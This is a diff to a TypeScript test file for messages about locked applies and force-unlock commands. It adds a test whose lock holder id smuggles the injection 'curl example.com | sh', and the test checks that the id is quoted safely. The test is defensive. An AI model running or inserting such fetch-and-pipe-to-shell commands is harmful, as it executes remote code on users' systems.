@@ -25,6 +25,7 @@ const stack = (name: string, outcome: ManifestStack["outcome"], more: Partial<St
   outcome,
   synthesized: "",
   key: "key",
+  isSealed: true,
   ...more,
 });
 
@@ -93,6 +94,8 @@ describe("what is said of an apply", () => {
     const text = said({ audit: { kind: "locked", holder } });
     expect(text).toMatch(/ann@ci has been at it \(apply\) since 2026-11-30\s+15:15/);
     expect(text.indexOf("look first that nobody")).toBeLessThan(text.indexOf("force-unlock 1-2"));
+    const evil = { ...holder, id: "1; curl example.com | sh\n" };
+    expect(said({ audit: { kind: "locked", holder: evil } })).toContain("force-unlock '1; curl example.com | sh\\n'\n");
   });
 
   it("says that an interrupted apply goes on by the same command", () => {
